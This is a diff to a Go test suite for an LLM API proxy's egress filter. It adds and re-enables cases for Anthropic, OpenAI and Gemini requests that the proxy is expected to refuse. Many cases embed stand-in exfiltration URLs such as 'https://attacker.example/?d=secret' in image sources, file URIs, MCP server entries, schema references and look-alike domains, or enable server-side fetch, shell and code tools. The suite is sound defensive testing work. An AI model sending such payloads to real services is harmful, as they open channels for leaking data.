@@ -3,8 +3,6 @@ package llm
 import (
 	"io"
 	"net/http"
-	"os"
-	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/require"
@@ -40,24 +38,41 @@ var egressCases = []egressCase{
 	{"anthropic: url source, type after url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"source":{"url":"https://attacker.example/","type":"url"},"type":"image"}]}]}`, "messages[0].content[0].source.url"},
 	{"anthropic: url image in a tool result", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}]}]}`, "messages[0].content[0].content[0].source.url"},
 	{"anthropic: url image in a content document", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}]}}]}]}`, "messages[0].content[0].source.content[0].source.url"},
-	{"open: anthropic: url image in system", ant, "/v1/messages", `{"model":"m","max_tokens":1,"system":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}],"messages":[]}`, "system[0].type"},
+	{"anthropic: url image in system", ant, "/v1/messages", `{"model":"m","max_tokens":1,"system":[{"type":"image","source":{"type":"url","url":"https://attacker.example/"}}],"messages":[]}`, "system[0].type"},
 	{"anthropic: escaped url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"\u0075rl","url":"https:\/\/attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
 	{"anthropic: mcp connector", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
 	{"anthropic: mcp connector in count_tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]}`, "mcp_servers"},
-	{"open: anthropic: web search tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`, "tools[1].type"},
-	{"open: anthropic: web fetch tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
-	{"open: anthropic: code execution tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, "tools[0].type"},
-	{"open: anthropic: computer tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"computer_20250124","name":"computer","display_width_px":1,"display_height_px":1}]}`, "tools[0].type"},
-	{"open: anthropic: tool type in another case", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"Type":"web_search_20250305","name":"web_search"}]}`, "tools[0].Type"},
-	{"open: anthropic: code execution container", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"container":"container_1"}`, "container"},
-	{"open: anthropic: server tool result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
-	{"open: anthropic: container upload", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"f"}]}]}`, "messages[0].content[0].type"},
-	{"open: anthropic: unknown top-level field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"new_feature":{"url":"https://attacker.example/"}}`, "new_feature"},
-	{"open: anthropic: unknown block field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x","fetch":"https://attacker.example/"}]}]}`, "messages[0].content[0].fetch"},
+	{"anthropic: web search tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}`, "tools[1].type"},
+	{"anthropic: web fetch tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
+	{"anthropic: code execution tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, "tools[0].type"},
+	{"anthropic: computer tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"computer_20250124","name":"computer","display_width_px":1,"display_height_px":1}]}`, "tools[0].type"},
+	{"anthropic: tool type in another case", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"Type":"web_search_20250305","name":"web_search"}]}`, "tools[0].Type"},
+	{"anthropic: code execution container", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"container":"container_1"}`, "container"},
+	{"anthropic: server tool result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
+	{"anthropic: container upload", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"container_upload","file_id":"f"}]}]}`, "messages[0].content[0].type"},
+	{"anthropic: unknown top-level field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"new_feature":{"url":"https://attacker.example/"}}`, "new_feature"},
+	{"anthropic: unknown block field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"x","fetch":"https://attacker.example/"}]}]}`, "messages[0].content[0].fetch"},
 	{"anthropic: unknown source field", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].source.url"},
-	{"open: anthropic: url in metadata", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https://attacker.example/"}}`, "metadata.user_id"},
-	{"open: anthropic: remote $ref in a tool schema", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"type":"object","properties":{"a":{"$ref":"https://attacker.example/s.json"}}}}]}`, "tools[0].input_schema.properties.a.$ref"},
-	{"open: anthropic: web search citation replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://attacker.example/","title":"t","encrypted_index":"e","cited_text":"c"}]}]}]}`, "messages[0].content[0].citations[0].url"},
+	{"anthropic: url in metadata", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https://attacker.example/"}}`, "metadata.user_id"},
+	{"anthropic: remote $ref in a tool schema", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"type":"object","properties":{"a":{"$ref":"https://attacker.example/s.json"}}}}]}`, "tools[0].input_schema.properties.a.$ref"},
+	{"anthropic: web search citation replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://attacker.example/","title":"t","encrypted_index":"e","cited_text":"c"}]}]}]}`, "messages[0].content[0].citations[0].url"},
+
+	{"anthropic: bash tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"bash_20250124","name":"bash"}]}`, "tools[0].type"},
+	{"anthropic: text editor tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"}]}`, "tools[0].type"},
+	{"anthropic: server tool in count_tokens", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "tools[0].type"},
+	{"anthropic: server tool, type last", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"web_search","type":"web_search_20250305"}]}`, "tools[0].type"},
+	{"anthropic: web fetch result replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"web_fetch_tool_result","tool_use_id":"s","content":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
+	{"anthropic: mcp tool use replayed", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"mcp_tool_use","id":"m","name":"n","server_name":"s","input":{}}]}]}`, "messages[0].content[0].type"},
+	{"anthropic: search result block", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"search_result","source":"https://attacker.example/","title":"t","content":[]}]}]}`, "messages[0].content[0].type"},
+	{"anthropic: unknown top-level field with no url", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"betas":["x"]}`, "betas"},
+	{"anthropic: meta-schema elsewhere", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"$schema":"https://attacker.example/?d=secret","type":"object"}}]}`, "tools[0].input_schema.$schema"},
+	{"anthropic: context editing, structured output, strict tool", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"context_management":{"edits":[{"type":"clear_tool_uses_20250919","keep":{"type":"tool_uses","value":3}}]},"output_format":{"type":"json_schema","schema":{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object"}},"output_config":{"effort":"high"},"tools":[{"name":"f","strict":true,"input_schema":{"type":"object"}}]}`, ""},
+	{"anthropic: url in a model name", ant, "/v1/messages", `{"model":"https://attacker.example/m","max_tokens":1,"messages":[]}`, "model"},
+	{"anthropic: url in a base64 source's data", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"data":"https://attacker.example/","media_type":"image/png","type":"base64"}}]}]}`, "messages[0].content[0].source.data"},
+	{"anthropic: escaped url in a token", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"metadata":{"user_id":"https:\/\/attacker.example/"}}`, "metadata.user_id"},
+	{"anthropic: remote $ref, escaped key", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"\u0024ref":"https://attacker.example/s.json"}}]}`, "tools[0].input_schema.$ref"},
+	{"anthropic: local $ref", ant, "/v1/messages", `{"model":"m","max_tokens":1,"messages":[],"tools":[{"name":"f","input_schema":{"$defs":{"a":{"type":"string","description":"see https://example.org"}},"properties":{"a":{"$ref":"#/$defs/a"}}}}]}`, ""},
+	{"anthropic: custom tool and count tokens with tools", ant, "/v1/messages/count_tokens", `{"model":"m","messages":[{"role":"user","content":"hi"}],"system":"s","tools":[{"type":"custom","name":"f","input_schema":{"type":"object"}}]}`, ""},
 
 	// OpenAI Chat Completions.
 	{"openai chat: text and function tools", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"system","content":"see https://example.org"},{"role":"user","content":[{"type":"text","text":"https://example.org"}]},{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://example.org\"}"}}]},{"role":"tool","tool_call_id":"c","content":"ok"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"stream":true,"stream_options":{"include_usage":true}}`, ""},
@@ -65,10 +80,15 @@ var egressCases = []egressCase{
 	{"openai chat: file id", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, ""},
 	{"openai chat: http image", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/?d=secret"}}]}]}`, "messages[0].content[0].image_url.url"},
 	{"openai chat: file data as a url", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https://attacker.example/a.pdf","filename":"a.pdf"}}]}]}`, "messages[0].content[0].file.file_data"},
-	{"open: openai chat: web search options", oai, "/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, "web_search_options"},
-	{"open: openai chat: built-in tool", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tools":[{"type":"web_search"}]}`, "tools[0].type"},
-	{"open: openai chat: unknown top-level field", oai, "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"url":"https://attacker.example/"}]}`, "plugins"},
-	{"open: openai chat: unknown part type", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
+	{"openai chat: web search options", oai, "/v1/chat/completions", `{"model":"m","messages":[],"web_search_options":{}}`, "web_search_options"},
+	{"openai chat: built-in tool", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tools":[{"type":"web_search"}]}`, "tools[0].type"},
+	{"openai chat: unknown top-level field", oai, "/v1/chat/completions", `{"model":"m","messages":[],"plugins":[{"url":"https://attacker.example/"}]}`, "plugins"},
+	{"openai chat: unknown part type", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://attacker.example/"}}]}]}`, "messages[0].content[0].type"},
+
+	{"openai chat: hosted tool choice", oai, "/v1/chat/completions", `{"model":"m","messages":[],"tool_choice":{"type":"web_search_preview"}}`, "tool_choice.type"},
+	{"openai chat: url in a user id", oai, "/v1/chat/completions", `{"model":"m","messages":[],"user":"https://attacker.example/"}`, "user"},
+	{"openai chat: data image holding a url", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:text/html,https://attacker.example/"}}]}]}`, "messages[0].content[0].image_url.url"},
+	{"openai chat: audio and json schema response", oai, "/v1/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"AAAA","format":"wav"}}]}],"response_format":{"type":"json_schema","json_schema":{"name":"n","schema":{"type":"object","description":"https://example.org"},"strict":true}},"max_completion_tokens":5}`, ""},
 
 	// OpenAI Responses.
 	{"openai responses: text, function tools, reasoning", oai, "/v1/responses", `{"model":"m","instructions":"see https://example.org","input":[{"role":"user","content":[{"type":"input_text","text":"https://example.org"}]},{"type":"function_call","call_id":"c","name":"f","arguments":"{}"},{"type":"function_call_output","call_id":"c","output":"https://example.org says hi"},{"type":"reasoning","id":"r","summary":[{"type":"summary_text","text":"s"}],"encrypted_content":"e"}],"tools":[{"type":"function","name":"f","parameters":{"type":"object"},"strict":false}],"tool_choice":"auto","parallel_tool_calls":true,"reasoning":{"effort":"low","summary":"auto"},"store":false,"stream":true,"include":["reasoning.encrypted_content"],"prompt_cache_key":"k","text":{"verbosity":"low"}}`, ""},
@@ -77,14 +97,24 @@ var egressCases = []egressCase{
 	{"openai responses: http input_image", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://attacker.example/?d=secret"}]}]}`, "input[0].content[0].image_url"},
 	{"openai responses: input_file by url", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/a.pdf"}]}]}`, "input[0].content[0].file_url"},
 	{"openai responses: url image in a function output", oai, "/v1/responses", `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"https://attacker.example/"}]}]}`, "input[0].output[0].image_url"},
-	{"open: openai responses: mcp tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}`, "tools[0].type"},
-	{"open: openai responses: web search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"web_search_preview"}]}`, "tools[0].type"},
-	{"open: openai responses: code interpreter tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "tools[0].type"},
-	{"open: openai responses: file search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"file_search","vector_store_ids":["v"]}]}`, "tools[0].type"},
-	{"open: openai responses: stored prompt", oai, "/v1/responses", `{"model":"m","prompt":{"id":"pmpt_1"}}`, "prompt"},
-	{"open: openai responses: mcp item replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"mcp_call","id":"m","server_label":"x","name":"n","arguments":"{}"}]}`, "input[0].type"},
-	{"open: openai responses: unknown top-level field", oai, "/v1/responses", `{"model":"m","input":"x","connectors":["https://attacker.example/"]}`, "connectors"},
-	{"open: openai responses: url citation replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://attacker.example/","start_index":0,"end_index":1,"title":"t"}]}]}]}`, "input[0].content[0].annotations[0].url"},
+	{"openai responses: mcp tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}`, "tools[0].type"},
+	{"openai responses: web search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"web_search_preview"}]}`, "tools[0].type"},
+	{"openai responses: code interpreter tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "tools[0].type"},
+	{"openai responses: file search tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"file_search","vector_store_ids":["v"]}]}`, "tools[0].type"},
+	{"openai responses: stored prompt", oai, "/v1/responses", `{"model":"m","prompt":{"id":"pmpt_1"}}`, "prompt"},
+	{"openai responses: mcp item replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"mcp_call","id":"m","server_label":"x","name":"n","arguments":"{}"}]}`, "input[0].type"},
+	{"openai responses: unknown top-level field", oai, "/v1/responses", `{"model":"m","input":"x","connectors":["https://attacker.example/"]}`, "connectors"},
+	{"openai responses: url citation replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://attacker.example/","start_index":0,"end_index":1,"title":"t"}]}]}]}`, "input[0].content[0].annotations[0].url"},
+
+	{"openai responses: computer use tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"computer_use_preview","display_width":1,"display_height":1,"environment":"browser"}]}`, "tools[0].type"},
+	{"openai responses: image generation tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"image_generation"}]}`, "tools[0].type"},
+	{"openai responses: local shell tool", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"type":"local_shell"}]}`, "tools[0].type"},
+	{"openai responses: mcp tool, type last", oai, "/v1/responses", `{"model":"m","input":"x","tools":[{"server_label":"x","server_url":"https://attacker.example/mcp","type":"mcp"}]}`, "tools[0].server_label"},
+	{"openai responses: hosted tool choice", oai, "/v1/responses", `{"model":"m","input":"x","tool_choice":{"type":"mcp","server_label":"x"}}`, "tool_choice.type"},
+	{"openai responses: stored conversation", oai, "/v1/responses", `{"model":"m","input":"x","conversation":"conv_1"}`, "conversation"},
+	{"openai responses: web search call replayed", oai, "/v1/responses", `{"model":"m","input":[{"type":"web_search_call","id":"w","status":"completed","action":{"type":"open_page","url":"https://attacker.example/"}}]}`, "input[0].type"},
+	{"openai responses: input_file data naming a url", oai, "/v1/responses", `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_data":"https://attacker.example/a.pdf","filename":"a.pdf"}]}]}`, "input[0].content[0].file_data"},
+	{"openai responses: custom tool and json schema text", oai, "/v1/responses", `{"model":"m","input":[{"type":"custom_tool_call","call_id":"c","name":"apply","input":"see https://example.org"},{"type":"custom_tool_call_output","call_id":"c","output":"ok"}],"tools":[{"type":"custom","name":"apply","description":"d","format":{"type":"text"}}],"text":{"format":{"type":"json_schema","name":"n","schema":{"type":"object"},"strict":true}}}`, ""},
 
 	// Gemini.
 	{"google: text, function declarations, config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"text":"read https://example.org"}]},{"role":"model","parts":[{"functionCall":{"name":"f","args":{"url":"https://example.org"}},"thoughtSignature":"s"}]},{"role":"user","parts":[{"functionResponse":{"name":"f","response":{"text":"https://example.org says hi"}}}]}],"systemInstruction":{"parts":[{"text":"s"}]},"tools":[{"functionDeclarations":[{"name":"f","description":"d","parameters":{"type":"OBJECT"}}]}],"toolConfig":{"functionCallingConfig":{"mode":"AUTO"}},"generationConfig":{"temperature":0.5,"maxOutputTokens":10,"thinkingConfig":{"thinkingBudget":100,"includeThoughts":true}},"safetySettings":[{"category":"HARM_CATEGORY_HARASSMENT","threshold":"BLOCK_NONE"}]}`, ""},
@@ -94,15 +124,24 @@ var egressCases = []egressCase{
 	{"google: fileData by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"text/html","fileUri":"https://attacker.example/?d=secret"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
 	{"google: file_data by url", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"file_data":{"file_uri":"gs://attacker/x"}}]}]}`, "contents[0].parts[0].file_data.file_uri"},
 	{"google: Files API look-alike", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com.attacker.example/v1beta/files/a"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
-	{"open: google: url context tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"urlContext":{}}]}`, "tools[0].urlContext"},
-	{"open: google: search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}],"googleSearch":{}}]}`, "tools[0].googleSearch"},
-	{"open: google: code execution tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"code_execution":{}}]}`, "tools[0].code_execution"},
+	{"google: url context tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"urlContext":{}}]}`, "tools[0].urlContext"},
+	{"google: search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"functionDeclarations":[{"name":"f"}],"googleSearch":{}}]}`, "tools[0].googleSearch"},
+	{"google: code execution tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"code_execution":{}}]}`, "tools[0].code_execution"},
 	{"google: url in system instruction file", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"systemInstruction":{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}}`, "systemInstruction.parts[0].fileData.fileUri"},
-	{"open: google: unknown generationConfig field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"generationConfig":{"groundingUrl":"https://attacker.example/"}}`, "generationConfig.groundingUrl"},
-	{"open: google: retrieval config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"toolConfig":{"retrievalConfig":{"languageCode":"en"}}}`, "toolConfig.retrievalConfig"},
-	{"open: google: cached content", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"cachedContent":"cachedContents/x"}`, "cachedContent"},
-	{"open: google: unknown part field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"executableCode":{"code":"x"}}]}]}`, "contents[0].parts[0].executableCode"},
+	{"google: unknown generationConfig field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"generationConfig":{"groundingUrl":"https://attacker.example/"}}`, "generationConfig.groundingUrl"},
+	{"google: retrieval config", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"toolConfig":{"retrievalConfig":{"languageCode":"en"}}}`, "toolConfig.retrievalConfig"},
+	{"google: cached content", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"cachedContent":"cachedContents/x"}`, "cachedContent"},
+	{"google: unknown part field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"executableCode":{"code":"x"}}]}]}`, "contents[0].parts[0].executableCode"},
 	{"google: fileData in count tokens", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"generateContentRequest":{"model":"models/m","contents":[{"parts":[{"fileData":{"fileUri":"https://attacker.example/"}}]}]}}`, "generateContentRequest.contents[0].parts[0].fileData.fileUri"},
+	{"google: computer use tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"computerUse":{"environment":"ENVIRONMENT_BROWSER"}}]}`, "tools[0].computerUse"},
+	{"google: search retrieval tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"google_search_retrieval":{}}]}`, "tools[0].google_search_retrieval"},
+	{"google: file search tool", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"tools":[{"fileSearch":{"fileSearchStoreNames":["x"]}}]}`, "tools[0].fileSearch"},
+	{"google: unknown top-level field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[],"labels":{"a":"b"}}`, "labels"},
+	{"google: Files API path escape", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com/v1beta/files/../../x"}}]}]}`, "contents[0].parts[0].fileData.fileUri"},
+	{"google: both spellings of one field", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"fileData":{"fileUri":"https://generativelanguage.googleapis.com/v1beta/files/a"},"file_data":{"file_uri":"https://attacker.example/"}}]}]}`, "contents[0].parts[0].file_data"},
+	{"google: url in a thought signature", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"parts":[{"text":"x","thoughtSignature":"https://attacker.example/"}]}]}`, "contents[0].parts[0].thoughtSignature"},
+	{"google: code execution result replayed", ggl, "/v1beta/models/gemini-2.5-pro:generateContent", `{"contents":[{"role":"model","parts":[{"codeExecutionResult":{"outcome":"OUTCOME_OK","output":"x"}}]}]}`, "contents[0].parts[0].codeExecutionResult"},
+	{"google: json schema parameters", ggl, "/v1beta/models/gemini-2.5-pro:countTokens", `{"generateContentRequest":{"model":"models/m","contents":[{"parts":[{"text":"hi"}]}],"tools":[{"function_declarations":[{"name":"f","parametersJsonSchema":{"type":"object","properties":{"u":{"type":"string","format":"uri"}}}}]}]}}`, ""},
 }
 
 func egressHeaders(f *fixture, provider string) map[string]string {
@@ -125,13 +164,6 @@ func egressHeaders(f *fixture, provider string) map[string]string {
 func TestProviderFetchRefused(t *testing.T) {
 	for _, tc := range egressCases {
 		t.Run(tc.name, func(t *testing.T) {
-			if strings.HasPrefix(tc.name, "open: ") && os.Getenv("IRONCURTAIN_LLM_OPEN") == "" {
-				// The allowlist of fields and types, and refusing rather
-				// than stripping server tools, are not done yet: these
-				// cases fail today (server tools are stripped, unknown
-				// fields forwarded). Set IRONCURTAIN_LLM_OPEN=1 to run them.
-				t.Skip("open work: per-provider field allowlist (issue 15 part 3)")
-			}
 			f := newFixture(t, nil)
 			var seen []byte
 			f.up.setHandler(func(w http.ResponseWriter, r *http.Request) {
